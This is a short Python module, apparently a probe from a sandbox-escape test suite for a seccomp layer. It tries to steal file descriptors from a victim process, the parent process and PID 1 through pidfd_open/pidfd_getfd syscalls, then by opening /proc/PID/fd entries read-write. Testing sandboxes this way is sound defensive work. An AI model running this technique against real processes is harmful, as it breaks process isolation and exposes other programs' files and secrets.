"""Taking another process's descriptors: pidfd_getfd, /proc/PID/fd.

layer: seccomp
walls_off: true
"""
import os

import intel
from tools import each, first, syscall


def take(pid):
    return syscall(438, syscall(434, pid, 0), 0, 0)


def attack():
    pids = (intel.VICTIM, os.getppid(), 1)
    said = each(take, pids)
    if said.startswith("ESCAPED"):
        return said
    return first(said, each(os.open, [(f"/proc/{pid}/fd/{n}", os.O_RDWR) for pid in pids for n in range(6)]))
